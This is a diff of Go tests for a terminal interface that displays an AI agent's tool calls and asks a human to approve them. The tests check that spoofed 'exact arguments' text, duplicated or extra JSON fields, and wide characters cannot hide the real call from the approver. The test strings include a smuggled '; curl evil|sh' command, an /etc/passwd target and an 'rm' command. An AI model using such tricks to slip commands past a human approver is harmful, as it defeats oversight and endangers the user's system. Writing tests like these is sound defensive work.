@@ -111,7 +111,8 @@ func TestModelNamesTheModel(t *testing.T) {
 
 func TestCallsFoldAndOpen(t *testing.T) {
 	s := newStage(t, 80, 24)
-	s.hears(turn.ChunkToolCallStarted, turn.CallChunk{CallID: "1.0", Tool: "x", Arguments: `{"old":"a","new":"b"}`})
+	s.hears(turn.ChunkToolCallStarted, turn.CallChunk{CallID: "1.0", Tool: "x",
+		Arguments: `{"path":"f","old_string":"a","new_string":"b"}`})
 	s.hears(turn.ChunkToolCallCompleted, turn.CallChunk{CallID: "1.0", Tool: "x", Outcome: turn.OutcomeOK,
 		Preview: "the\x1b[2J result"})
 	assert.NotContains(t, s.all(), "the[2J result")
@@ -165,9 +166,45 @@ func TestTheConversationScrolls(t *testing.T) {
 func TestADiffCannotPassForTheExactArguments(t *testing.T) {
 	s := newStage(t, 80, 24)
 	s.asksFor(pendingRequest{Request: turn.Request{ID: "1.0", Kind: turn.RequestApproval, Tool: "x", ArgumentsHash: "h",
-		Arguments: `{"path":"/etc/passwd","patch":"@@ -1 +1 @@\nexact arguments:\n{\"path\":\"notes.txt\"}"}`},
+		Arguments: `{"path":"/etc/passwd","old_string":"a","new_string":"a\nexact arguments:\n{\"path\":\"notes.txt\"}"}`},
 		turn: "t", complete: true})
-	assert.Contains(t, s.bottom(), `│ {"path":"notes.txt"}`)
+	assert.Contains(t, s.bottom(), `│ +{"path":"notes.txt"}`)
 	assert.Equal(t, 1, strings.Count(s.bottom(), "\nexact arguments:"))
 	assert.Contains(t, s.bottom(), `{"path":"/etc/passwd"`)
+}
+
+// A diff that shows less than the whole call would be a lie: every other field, spelling or repetition hides it.
+func TestOnlyAWholeCallIsShownAsADiff(t *testing.T) {
+	for _, arguments := range []string{
+		`{"path":"a","old_string":"x","new_string":"y"}`,
+		`{"file_path":"a","edits":[{"oldText":"x","newText":"y"}]}`,
+	} {
+		assert.Contains(t, diffOf(arguments), "\n-x\n+y", arguments)
+	}
+	for _, arguments := range []string{
+		`{"path":"a","old_string":"x","new_string":"EVIL","NEW_STRING":"y"}`,
+		`{"path":"a","old_string":"x","new_string":"EVIL","new_string":"y"}`,
+		`{"path":"a","old_string":"x","new_string":"y","command":"rm"}`,
+		`{"path":"a","command":"rm","diff":"@@ -1 +1 @@\n-x\n+y"}`,
+		`{"path":"a","edits":[{"oldText":"x","newText":"y"}],"dryRun":false}`,
+		`{"path":"a","edits":[{"oldText":"x","newText":"y","at":3}]}`,
+		`{"path":"a","edits":[7]}`, `{"path":7,"old_string":"x","new_string":"y"}`, `{"path":"a"}`, `["a"]`, `{"path"`, ``,
+	} {
+		assert.Empty(t, diffOf(arguments), arguments)
+	}
+}
+
+// Terminals disagree about the width of some characters. Whatever they count, no row is longer than the screen, because
+// the end of such a row would be cut, and the call allowed without it.
+func TestEveryCharacterOfTheArgumentsIsOnTheScreen(t *testing.T) {
+	for _, text := range []string{
+		strings.Repeat("\U0001F1E6.", 33) + strings.Repeat("x", 34) + "; curl evil|sh",
+		strings.Repeat("\u26a0\ufe0f", 80) + "end", strings.Repeat("\u4e16", 150) + "end",
+	} {
+		lines := breakText(text, 100)
+		assert.Equal(t, text, strings.Join(lines, ""))
+		for _, line := range lines {
+			assert.LessOrEqual(t, columns(line), 100)
+		}
+	}
 }
